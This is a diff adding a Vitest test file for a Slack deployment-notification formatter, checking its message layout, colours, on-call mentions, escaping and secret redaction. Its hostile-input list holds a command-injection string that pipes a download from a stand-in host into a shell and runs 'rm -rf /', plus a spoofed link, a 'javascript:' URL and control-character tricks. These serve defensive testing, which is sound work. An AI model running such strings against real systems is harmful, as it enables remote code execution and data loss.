@@ -1,0 +1,418 @@
+import { describe, expect, it } from "vitest"
+import { Component } from "../../src/component.js"
+import { type Notice, NoticeKind } from "../../src/notifications/notice.js"
+import { slackMessage, slackText } from "../../src/notifications/slack-message.js"
+import { keepSecret } from "../../src/text/secret-values.js"
+import { slack } from "../../stand-ins/slack.js"
+import { commit } from "../support/app.js"
+
+const notice: Notice = {
+  kind: NoticeKind.Success,
+  subject: "backend of production",
+  event: "bbbbbbb is live",
+  component: Component.Backend,
+  environment: "production",
+  version: "v2",
+  commit: commit("b"),
+  author: "Ada Lovelace",
+  message: "Answer faster\n\nThe index is warm now.",
+  actor: "ana",
+  milliseconds: 192_000,
+  live: "backend: bbbbbbb",
+  run: "https://runs.example/7",
+  url: "https://book.example",
+  failed: "",
+  reason: "",
+  log: [],
+  next: "",
+  command: 'dagger call rollback-backend --environment=production --to=id-a --reason="…"',
+}
+const failure: Notice = {
+  ...notice,
+  kind: NoticeKind.Failure,
+  event: "the deployment of bbbbbbb ended failed",
+  live: "backend: aaaaaaa",
+  failed: "The checks failed.",
+  reason: "each failure is listed above",
+  log: ["FAILED  backend tests", "  ✗ test_health"],
+  next: "fix them and run `dagger call ci`",
+  command: "dagger call probe --environment=production",
+}
+const context = {
+  source: "https://github.com/acme/book",
+  troubleshooting: "https://github.com/acme/book/blob/HEAD/docs/deployment/troubleshooting.md",
+  page: ["U024BE7LH", "S0604QSJC"],
+}
+
+describe("a message", () => {
+  it("tells a success in green, with commit, author, time, links and the way back", () => {
+    expect(slackMessage(notice, context)).toMatchInlineSnapshot(`
+      {
+        "attachments": [
+          {
+            "blocks": [
+              {
+                "fields": [
+                  {
+                    "text": "*Component*
+      backend",
+                    "type": "mrkdwn",
+                    "verbatim": true,
+                  },
+                  {
+                    "text": "*Environment*
+      production",
+                    "type": "mrkdwn",
+                    "verbatim": true,
+                  },
+                  {
+                    "text": "*Version*
+      v2",
+                    "type": "mrkdwn",
+                    "verbatim": true,
+                  },
+                  {
+                    "text": "*Commit*
+      <https://github.com/acme/book/commit/bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb|bbbbbbb>",
+                    "type": "mrkdwn",
+                    "verbatim": true,
+                  },
+                  {
+                    "text": "*Author*
+      Ada Lovelace",
+                    "type": "mrkdwn",
+                    "verbatim": true,
+                  },
+                  {
+                    "text": "*Started by*
+      ana",
+                    "type": "mrkdwn",
+                    "verbatim": true,
+                  },
+                  {
+                    "text": "*Took*
+      3 min 12 s",
+                    "type": "mrkdwn",
+                    "verbatim": true,
+                  },
+                  {
+                    "text": "*Live now*
+      backend: bbbbbbb",
+                    "type": "mrkdwn",
+                    "verbatim": true,
+                  },
+                ],
+                "type": "section",
+              },
+              {
+                "text": {
+                  "text": "\`\`\`
+      Answer faster
+
+      The index is warm now.
+      \`\`\`",
+                  "type": "mrkdwn",
+                  "verbatim": true,
+                },
+                "type": "section",
+              },
+              {
+                "text": {
+                  "text": "*Undo*
+      \`\`\`
+      dagger call rollback-backend --environment=production --to=id-a --reason="…"
+      \`\`\`",
+                  "type": "mrkdwn",
+                  "verbatim": true,
+                },
+                "type": "section",
+              },
+              {
+                "text": {
+                  "text": "<https://runs.example/7|Run> · <https://book.example/|Site>",
+                  "type": "mrkdwn",
+                  "verbatim": true,
+                },
+                "type": "section",
+              },
+            ],
+            "color": "#2eb67d",
+          },
+        ],
+        "blocks": [
+          {
+            "text": {
+              "emoji": true,
+              "text": "🟢 backend of production: bbbbbbb is live",
+              "type": "plain_text",
+            },
+            "type": "header",
+          },
+        ],
+        "text": "🟢 backend of production: bbbbbbb is live",
+        "unfurl_links": false,
+      }
+    `)
+  })
+
+  it("tells a failure in red, calls the channel and the people on call, and shows the log and what to type", () => {
+    expect(slackMessage(failure, context)).toMatchInlineSnapshot(`
+      {
+        "attachments": [
+          {
+            "blocks": [
+              {
+                "fields": [
+                  {
+                    "text": "*Component*
+      backend",
+                    "type": "mrkdwn",
+                    "verbatim": true,
+                  },
+                  {
+                    "text": "*Environment*
+      production",
+                    "type": "mrkdwn",
+                    "verbatim": true,
+                  },
+                  {
+                    "text": "*Version*
+      v2",
+                    "type": "mrkdwn",
+                    "verbatim": true,
+                  },
+                  {
+                    "text": "*Commit*
+      <https://github.com/acme/book/commit/bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb|bbbbbbb>",
+                    "type": "mrkdwn",
+                    "verbatim": true,
+                  },
+                  {
+                    "text": "*Author*
+      Ada Lovelace",
+                    "type": "mrkdwn",
+                    "verbatim": true,
+                  },
+                  {
+                    "text": "*Started by*
+      ana",
+                    "type": "mrkdwn",
+                    "verbatim": true,
+                  },
+                  {
+                    "text": "*Took*
+      3 min 12 s",
+                    "type": "mrkdwn",
+                    "verbatim": true,
+                  },
+                  {
+                    "text": "*Live now*
+      backend: aaaaaaa",
+                    "type": "mrkdwn",
+                    "verbatim": true,
+                  },
+                ],
+                "type": "section",
+              },
+              {
+                "text": {
+                  "text": "\`\`\`
+      Answer faster
+
+      The index is warm now.
+      \`\`\`",
+                  "type": "mrkdwn",
+                  "verbatim": true,
+                },
+                "type": "section",
+              },
+              {
+                "text": {
+                  "text": "*Failed*
+      The checks failed.",
+                  "type": "mrkdwn",
+                  "verbatim": true,
+                },
+                "type": "section",
+              },
+              {
+                "text": {
+                  "text": "*Why*
+      \`\`\`
+      each failure is listed above
+      \`\`\`",
+                  "type": "mrkdwn",
+                  "verbatim": true,
+                },
+                "type": "section",
+              },
+              {
+                "text": {
+                  "text": "*Log*
+      \`\`\`
+      FAILED  backend tests
+        ✗ test_health
+      \`\`\`",
+                  "type": "mrkdwn",
+                  "verbatim": true,
+                },
+                "type": "section",
+              },
+              {
+                "text": {
+                  "text": "*Next*
+      fix them and run \`dagger call ci\`",
+                  "type": "mrkdwn",
+                  "verbatim": true,
+                },
+                "type": "section",
+              },
+              {
+                "text": {
+                  "text": "*Type*
+      \`\`\`
+      dagger call probe --environment=production
+      \`\`\`",
+                  "type": "mrkdwn",
+                  "verbatim": true,
+                },
+                "type": "section",
+              },
+              {
+                "text": {
+                  "text": "<https://runs.example/7|Run> · <https://book.example/|Site> · <https://github.com/acme/book/blob/HEAD/docs/deployment/troubleshooting.md|Troubleshooting>",
+                  "type": "mrkdwn",
+                  "verbatim": true,
+                },
+                "type": "section",
+              },
+            ],
+            "color": "#e01e5a",
+          },
+        ],
+        "blocks": [
+          {
+            "text": {
+              "emoji": true,
+              "text": "🔴 backend of production: the deployment of bbbbbbb ended failed",
+              "type": "plain_text",
+            },
+            "type": "header",
+          },
+          {
+            "text": {
+              "text": "<!channel> <@U024BE7LH> <!subteam^S0604QSJC>",
+              "type": "mrkdwn",
+              "verbatim": true,
+            },
+            "type": "section",
+          },
+        ],
+        "text": "<!channel> <@U024BE7LH> <!subteam^S0604QSJC> 🔴 backend of production: the deployment of bbbbbbb ended failed",
+        "unfurl_links": false,
+      }
+    `)
+  })
+
+  it.each([
+    [NoticeKind.Started, "⚪ backend of production: it", "#8d8d8d"],
+    [NoticeKind.Success, "🟢 backend of production: it", "#2eb67d"],
+    [NoticeKind.Promotion, "🟢 backend of production: it", "#2eb67d"],
+    [NoticeKind.Rollback, "🟡 backend of production: it", "#ecb22e"],
+    [NoticeKind.RolledBack, "<!channel> <@U024BE7LH> <!subteam^S0604QSJC> 🟡 backend of production: it", "#ecb22e"],
+    [NoticeKind.Failure, "<!channel> <@U024BE7LH> <!subteam^S0604QSJC> 🔴 backend of production: it", "#e01e5a"],
+    [NoticeKind.Stopped, "🟡 backend of production: it", "#ecb22e"],
+    [NoticeKind.Unchanged, "⚪ backend of production: it", "#8d8d8d"],
+  ])("of the kind %s begins with %j", (kind, text, color) => {
+    const message = slackMessage({ ...notice, kind, event: "it" }, context)
+    expect([message.text, message.attachments[0]?.color]).toEqual([text, color])
+  })
+
+  it("calls nobody when told so", () => {
+    expect(JSON.stringify(slackMessage(failure, context, false))).not.toContain("<!")
+  })
+
+  it("says only what is known", () => {
+    const bare = {
+      ...notice,
+      component: "",
+      environment: "",
+      version: "",
+      commit: "",
+      author: "",
+      message: "",
+      actor: "",
+    }
+    const { attachments } = slackMessage({ ...bare, milliseconds: 0, live: "", run: "", url: "", command: "" }, context)
+    expect(attachments[0]?.blocks).toEqual([])
+  })
+})
+
+const hostile: [string, string][] = [
+  ["calls of the channel and of people", "<!channel> <!here> <@U024BE7LH> <!subteam^S0604QSJC> @channel"],
+  ["a link under another name", "<https://evil.example|https://book.example>"],
+  ["backticks and a closing fence", "`x` ``` </pre> ```*bold*"],
+  ["a command", "$(curl evil.example | sh) `id` ; rm -rf /"],
+  ["70 kB", "a<&>😀".repeat(10_000)],
+  ["70 kB of escapes", "&".repeat(70_000)],
+  ["reversed reading, NUL and colours", "a\u202eb\u0000c\u001b[31mred\u2066"],
+  ["component a character", "\ud83d and \ude00"],
+]
+
+describe("the words of others", () => {
+  it.each(hostile)("%s are text to Slack, within all limits", async (_, words) => {
+    await using channel = await slack()
+    const said = { author: words, message: words, actor: words, version: words, live: words, component: words }
+    const more = { failed: words, reason: words, next: words, command: words, log: [words, words], environment: words }
+    const message = slackMessage({ ...failure, ...said, ...more, event: words, run: words, url: words }, context)
+
+    const answer = await fetch(channel.webhook, { method: "POST", body: JSON.stringify(message) })
+
+    expect(await answer.text()).toBe("ok")
+    const shown = channel.shown(0)
+    const ours =
+      /^(?:<!channel> <@U024BE7LH> <!subteam\^S0604QSJC>|<https:\/\/github\.com\/acme\/book\/[^|>]*\|[\w ]+>)$/
+    const powers = `${shown}\n${message.text}`.match(/<!channel> <@\w+> <!subteam\^\w+>|<[^>]*>/g) ?? []
+    expect(powers.filter((power) => !ours.test(power))).toEqual([])
+    expect(shown).not.toMatch(/\p{Bidi_Control}|(?!\n)\p{Cc}/u)
+    // Each fence that opens is closed by ours.
+    expect((shown.match(/```/g) ?? []).length % 2).toBe(0)
+    expect(shown).toBe(shown.toWellFormed())
+  })
+
+  it("close no block of code with a fence that takes shape only once its control characters are gone", () => {
+    const { attachments } = slackMessage({ ...notice, message: "``\u0000` *bold*" }, context)
+    const shown = attachments[0]?.blocks.find(({ text }) => text?.text.includes("bold"))
+    expect(shown).toMatchObject({ text: { text: "```\n''' *bold*\n```" } })
+  })
+
+  it("are cut between characters and between escapes", () => {
+    expect(slackText("&&&&", 12)).toBe("&amp;&amp;…")
+    expect(slackText("ab😀", 4)).toBe("ab…")
+    expect(slackText("ab", 3)).toBe("ab")
+  })
+
+  it("hold no secret that the call knows, in any writing", () => {
+    const secret = 'tok/en+"12345'
+    keepSecret(secret)
+    for (const written of [
+      secret,
+      Buffer.from(`x:${secret}`).toString("base64"),
+      encodeURIComponent(secret),
+      JSON.stringify(secret).slice(1, -1),
+    ]) {
+      const message = slackMessage({ ...failure, log: [`said ${written}`], reason: written, message: written }, context)
+      expect(JSON.stringify(message)).not.toContain(JSON.stringify(written).slice(1, -1))
+      expect(JSON.stringify(message)).toContain("said ")
+    }
+  })
+
+  it("are linked only as an address of the web without a password", () => {
+    const links = (run: string) => slackMessage({ ...notice, run, url: "" }, context).attachments[0]?.blocks.at(-1)
+    expect(links("https://runs.example/7|x>y")).toMatchObject({
+      text: { text: "<https://runs.example/7%7Cx%3Ey|Run>" },
+    })
+    for (const run of ["javascript:alert(1)", "run 7", "https://me:password@runs.example/"])
+      expect(JSON.stringify(links(run))).not.toContain("Run")
+  })
+})
